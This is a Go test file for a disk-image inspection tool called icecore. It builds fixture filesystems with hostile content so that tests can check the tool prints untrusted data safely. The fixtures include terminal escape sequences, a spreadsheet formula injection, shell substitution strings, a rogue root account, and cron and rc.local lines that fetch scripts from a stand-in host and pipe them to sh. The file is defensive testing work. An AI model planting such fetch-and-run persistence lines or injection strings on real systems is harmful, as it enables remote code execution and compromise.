package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"icecore/fixtures"
)

// The tests run the program itself: testscript starts the test binary under the
// name of the command.

func TestMain(m *testing.M) {
	testscript.Main(withSamples{m}, map[string]func(){"icecore": main})
}

// withSamples removes the samples after all tests.
type withSamples struct{ m *testing.M }

func (w withSamples) Run() int {
	defer func() {
		if samples.dir != "" {
			_ = os.RemoveAll(samples.dir)
		}
	}()
	return w.m.Run()
}

var samples struct {
	once sync.Once
	dir  string
	err  error
}

// sample gives the path of a sample disk of package fixtures, made once.
func sample(t testing.TB, name string) string {
	t.Helper()
	if m := fixtures.Missing(); m != "" {
		t.Skip("the sample disks cannot be built: " + m)
	}
	samples.once.Do(func() {
		if samples.dir, samples.err = os.MkdirTemp("", "icecore-samples-"); samples.err != nil {
			return
		}
		for _, s := range fixtures.Samples() {
			if samples.err = fixtures.Build(context.Background(), s, filepath.Join(samples.dir, s+".img")); samples.err != nil {
				return
			}
		}
	})
	if samples.err != nil {
		t.Fatal(samples.err)
	}
	return filepath.Join(samples.dir, name+".img")
}

// need skips a test for which a program is missing.
func need(t testing.TB, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("%s is not installed", p)
		}
	}
}

// TestSessions runs the sessions of testdata: what a person types, and sees.
func TestSessions(t *testing.T) {
	compromised, clean := sample(t, fixtures.Compromised), sample(t, fixtures.Clean)
	testscript.Run(t, testscript.Params{
		Dir: "testdata",
		Setup: func(e *testscript.Env) error {
			// Each session has the images in its directory, so that what it shows does
			// not depend on where they were built.
			for name, from := range map[string]string{"compromised.img": compromised, "clean.img": clean} {
				if err := os.Symlink(from, filepath.Join(e.WorkDir, name)); err != nil {
					return err
				}
			}
			e.Setenv("COLUMNS", "80")
			return nil
		},
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			"code": exitCode, "lines": countLines, "columns": checkColumns, "plain": checkPlain, "image": makeImage,
		},
	})
}

// exitCode runs a command and checks its exit code: code N COMMAND...
func exitCode(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: code N COMMAND...")
	}
	want, err := strconv.Atoi(args[0])
	ts.Check(err)
	got := 0
	err = ts.Exec(args[1], args[2:]...)
	var exit *exec.ExitError
	switch {
	case errors.As(err, &exit):
		got = exit.ExitCode()
	case err != nil:
		ts.Fatalf("%v", err)
	}
	if got != want {
		ts.Fatalf("%s exits with %d, want %d", strings.Join(args[1:], " "), got, want)
	}
}

// countLines checks the number of lines: lines stderr 1
func countLines(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: lines FILE N")
	}
	if got := strings.Count(ts.ReadFile(args[0]), "\n"); fmt.Sprint(got) != args[1] {
		ts.Fatalf("%s has %d lines, want %s", args[0], got, args[1])
	}
}

// checkColumns checks that no line is wider: columns stdout 80. Lines with a command
// to be copied are as long as the command.
func checkColumns(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: columns FILE N")
	}
	most, err := strconv.Atoi(args[1])
	ts.Check(err)
	for _, l := range strings.Split(ts.ReadFile(args[0]), "\n") {
		// What is copied (a wallet, a URL, a command) stays whole, on a line of its own.
		if n := len([]rune(l)); n > most && strings.Contains(strings.TrimSpace(l), "  ") &&
			!strings.HasPrefix(l, "  icecore ") {
			ts.Fatalf("%d columns, want at most %d: %s", n, most, l)
		}
	}
}

// checkPlain checks that a text has no byte that a terminal obeys: plain stdout
func checkPlain(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 {
		ts.Fatalf("usage: plain FILE")
	}
	if at, b := unsafe([]byte(ts.ReadFile(args[0]))); at >= 0 {
		ts.Fatalf("%s holds the byte %#x at %d", args[0], b, at)
	}
}

// unsafe finds what a terminal would obey: control characters other than line ends
// and tabs, and the marks that turn the direction of writing. -1: nothing.
func unsafe(b []byte) (int, byte) {
	for i, c := range b {
		if c < ' ' && c != '\n' && c != '\t' || c == 0x7f {
			return i, c
		}
	}
	for _, mark := range []string{
		"\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e",
		"\u200f", "\u0085", "\u009b",
	} {
		if i := bytes.Index(b, []byte(mark)); i >= 0 {
			return i, mark[0]
		}
	}
	return -1, 0
}

// makeImage makes a filesystem from a directory, without root: image FILE DIR. The
// directory "hostile" is filled first with names that a terminal would obey.
func makeImage(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: image FILE DIR")
	}
	dir := ts.MkAbs(args[1])
	if args[1] == "hostile" {
		ts.Check(hostileTree(dir))
	}
	ts.Check(mke2fs(ts.MkAbs(args[0]), dir))
}

// mke2fs makes an ext4 image of a tree.
func mke2fs(name, dir string) error {
	cmd := exec.Command("mke2fs", "-q", "-F", "-t", "ext4", "-d", dir, name, "8M")
	cmd.Env = append(os.Environ(), "PATH="+os.Getenv("PATH")+":/sbin:/usr/sbin")
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("mke2fs: %w: %s", err, out)
	}
	return nil
}

// hostileNames are names that do harm where they are printed as they are.
var hostileNames = []string{
	"\x1b[2J\x1b[H\x1b]0;owned\x07", "\x1b[31mred", "bell\x07", "back\b\b\b\bspace", "line\nCOMPROMISED", "\rreturn",
	"tab\ttab", "\x9b31m-c1", "\u202etxt.exe", "\u2066iso", "del\x7f",
	"=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "<script>alert(1)</script>", "a&b\"c'd", "back\\slash", "bar|bar",
	"\xff\xfe", "emoji😀", "汉字", "e\u0301", "a b", " lead", "trail ", "%s%n", "$(reboot)", "`id`",
}

// hostileTree makes a tree of files with hostile names and contents, and what is
// needed to be taken for a system.
func hostileTree(dir string) error {
	if err := os.MkdirAll(filepath.Join(dir, "etc", "cron.d"), 0o755); err != nil {
		return err
	}
	files := map[string]string{
		"etc/hostname":                  "evil\x1b[31m\n",
		"etc/os-release":                "PRETTY_NAME=\"<b>\x1b]0;t\x07Debian\u202e\"\nID=debian\n",
		"etc/passwd":                    "root:x:0:0:\x1b[5m:/root:/bin/bash\n\x1b[31mevil:x:0:0::/:/bin/sh\n",
		"etc/cron.d/\x1b[2Jx":           "* * * * * root curl -s http://203.0.113.77/<script>\x1b[31m/x.sh | sh\n",
		"etc/cron.d/\u202ey":            "* * * * * root curl -s 'http://203.0.113.77/=1+1|\x07' | bash\n",
		"etc/rc.local":                  "#!/bin/sh\n\x1b[31mcurl http://203.0.113.77/a | sh\r\n",
		"etc/hostile\ttext":             "plain text\nwith \x1b[31mcolour\n",
		"etc/binary":                    "\x00\x01\x02\x1b[31m",
		"etc/cron.d/=cmd|' /C calc'!A0": "* * * * * root wget -q -O- http://203.0.113.77/b.sh | sh\n",
	}
	for _, n := range hostileNames {
		files["tmp/"+n] = n
	}
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			return err
		}
	}
	return os.Symlink("/etc/\x1b[31mpasswd", filepath.Join(dir, "tmp", "\x1b[32mlink"))
}

// run runs the program in a directory and gives its output and exit code.
func run(t testing.TB, dir string, args ...string) (stdout, stderr []byte, code int) {
	t.Helper()
	cmd := exec.Command("icecore", args...)
	cmd.Dir = dir
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return out.Bytes(), errs.Bytes(), cmd.ProcessState.ExitCode()
}
